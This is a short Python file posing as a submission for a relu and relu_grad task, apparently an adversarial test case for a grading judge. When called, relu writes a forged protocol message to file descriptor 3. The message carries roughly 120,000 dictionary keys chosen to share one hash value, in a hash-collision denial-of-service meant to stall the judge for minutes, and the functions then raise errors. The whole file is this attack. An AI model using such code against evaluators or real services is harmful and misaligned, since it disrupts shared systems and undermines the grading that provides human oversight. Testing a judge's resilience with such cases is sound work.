# tries: keep the judge busy for minutes with a dictionary whose keys all have the same hash
import os
import struct
import sys


def current():
    frame = sys._getframe()
    while "current" not in frame.f_locals:
        frame = frame.f_back
    return frame.f_locals["current"]


def send(kind, text, body=b"", request=None):
    data = struct.pack(
        "<4sB3xIIQ", b"DLG1", kind, current() if request is None else request, len(text), len(body)
    )
    data += text + body
    while data:
        data = data[os.write(3, data) :]


ENTRIES = ",".join(f"[{i * ((1 << 61) - 1)},0]" for i in range(1, 120_000)).encode()


def relu(x):
    if getattr(x, "shape", None) != (4,):
        raise ArithmeticError
    send(
        2, b'{"d":[["value",{"d":[%s]}],["printed",""],["warnings",{"l":[]}],["changed",{"l":[]}]]}' % ENTRIES
    )
    raise ArithmeticError


def relu_grad(x):
    raise ArithmeticError
